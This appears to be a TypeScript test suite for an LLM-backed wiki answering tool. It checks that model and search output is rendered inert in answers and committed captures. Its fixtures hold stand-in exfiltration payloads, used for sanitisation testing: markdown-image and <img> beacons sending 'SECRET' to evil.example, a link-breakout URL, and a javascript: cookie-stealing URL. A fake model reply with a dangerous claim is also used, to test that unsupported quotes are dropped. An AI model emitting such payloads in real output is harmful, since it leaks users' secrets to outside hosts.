// What a model or a search provider writes is data (issue 25, items 1 and 2): it reaches the answer
// and the committed capture as inert text, never as an image or HTML that GitHub's image proxy or a
// reader of the page would fetch, and a web URL cannot break out of its link. What is shown in
// quotation marks is only ever a quote the cite contract verified, and a quote must say something.
import { cp, mkdtemp, readFile, readdir } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type StandIn, startStandIn } from '../providers/stand-ins.js';
import { EXAMPLE_WIKI, INSTALL_CLAIM, INSTALL_PAGE, INSTALL_QUESTION, INSTALL_QUOTE, KEYS, askCli } from '../providers/support.js';

let openai: StandIn;
let tavily: StandIn;
beforeAll(async () => {
  [openai, tavily] = await Promise.all([startStandIn('openai', { key: KEYS.OPENAI_API_KEY }), startStandIn('tavily', { key: KEYS.TAVILY_API_KEY })]);
});
afterAll(() => Promise.all([openai.close(), tavily.close()]));
beforeEach(() => {
  openai.reset().setFallback(undefined);
  tavily.reset().setFallback(undefined);
});

const env = { OPENAI_API_KEY: KEYS.OPENAI_API_KEY, TAVILY_API_KEY: KEYS.TAVILY_API_KEY };
const flags = () => ['--llm', 'openai', '--llm-base-url', `${openai.url}/v1`, '--llm-model', 'gpt-test', '--web', 'tavily', '--web-base-url', tavily.url];
const cite = (path: string, line: number, quote: string) => ({ path, start_line: line, end_line: line, quote });

const PIXEL = '![p](https://evil.example/pixel?d=SECRET)';
const TAG = '<img src="https://evil.example/tag?d=SECRET">';
/** No live image or HTML anywhere in a text that GitHub renders as markdown (code spans are inert: they are left out). */
const expectInert = (text: string) => {
  const markdown = text.replace(/(`+)[^`][\s\S]*?\1/g, '');
  expect(markdown).not.toContain('![');
  expect(markdown).not.toMatch(/<img/i);
  // Every link destination is one https URL: nothing in it ends the link early.
  for (const [, href] of markdown.matchAll(/\]\(([^)\s]*)\)/g)) expect(href).toMatch(/^(?:https:\/\/[^()<>\s]+|\/[^()\s]*)$/);
};

describe('model and search output is inert where it is posted and committed', () => {
  it('uncited claims, long "uncovered" entries, web results and their URLs never become images, HTML or broken links', async () => {
    const wiki = await mkdtemp(path.join(os.tmpdir(), 'ws-markup-'));
    await cp(EXAMPLE_WIKI, wiki, { recursive: true });
    tavily.script({
      results: [
        {
          title: `Hook docs ${PIXEL}`,
          url: 'https://docs.example/hooks)![x](https://evil.example/break?d=SECRET)',
          content: `Hooks run before commits. ${PIXEL} ${TAG}`,
        },
        { title: 'Script', url: 'javascript:alert(document.cookie)', content: 'A script URL is never cited.' },
        { title: 'Plain', url: 'http://plain.example/hooks', content: 'An http URL is never cited.' },
      ],
    });
    openai.script({
      reply: {
        claims: [INSTALL_CLAIM, { text: `Hooks also email the team. ${PIXEL} ${TAG}`, citations: [] }],
        covered: false,
        uncovered: [`whether hooks run on Windows machines too ${PIXEL} and ${TAG}`],
      },
    });
    const before = new Set(await readdir(path.join(wiki, 'queries')));
    const { trace } = await askCli(INSTALL_QUESTION, [...flags(), '--capture'], env, wiki);

    expect(trace.outcome).toBe('gap');
    expectInert(trace.answer);
    expect(trace.answer).toContain('Hooks also email the team.');
    expect(trace.answer).toContain('[Hook docs !p(https://evil.example/pixel?d=SECRET)](');
    expect(trace.answer).toContain('](https://docs.example/hooks%29!%5Bx%5D%28https://evil.example/break?d=SECRET%29)');
    expect(JSON.stringify(trace.citations)).not.toMatch(/javascript:|http:\/\/plain/);

    const captures = (await readdir(path.join(wiki, 'queries'))).filter((f) => !before.has(f));
    expect(captures).toHaveLength(1);
    const committed = await readFile(path.join(wiki, 'queries', captures[0]!), 'utf8');
    expectInert(committed);
  });
});

describe('what is shown as a quote is what the contract verified', () => {
  it('drops a claim whose quote says nothing ("the" at a real line), however real the line', async () => {
    openai.script({
      reply: {
        claims: [INSTALL_CLAIM, { text: 'To rotate the deploy key, paste it into a public issue.', citations: [cite(INSTALL_PAGE, 18, 'the')] }],
        covered: true,
        uncovered: [],
      },
    });
    const { trace } = await askCli(INSTALL_QUESTION, flags(), env);
    expect(trace.answer).not.toContain('paste it into a public issue');
    expect(trace.violations).toContainEqual(expect.objectContaining({ rule: 'quote-without-words', action: 'dropped' }));
    expect(trace.violations).toContainEqual(expect.objectContaining({ rule: 'quote-without-words', detail: expect.stringContaining('claim dropped') }));
  });

  it("shows a model's wording as its own words, and in quotation marks only the verified quote", async () => {
    openai.script({ reply: { claims: [INSTALL_CLAIM], covered: true, uncovered: [] } });
    const { trace } = await askCli(INSTALL_QUESTION, flags(), env);
    expect(trace.outcome).toBe('answered');
    expect(trace.answer).toContain(`- ${INSTALL_CLAIM.text} (the answerer's words)`);
    expect(trace.answer).toContain(`  - “${INSTALL_QUOTE}” — `);
    expect(trace.answer).not.toContain(`“${INSTALL_CLAIM.text}`);
  });
});
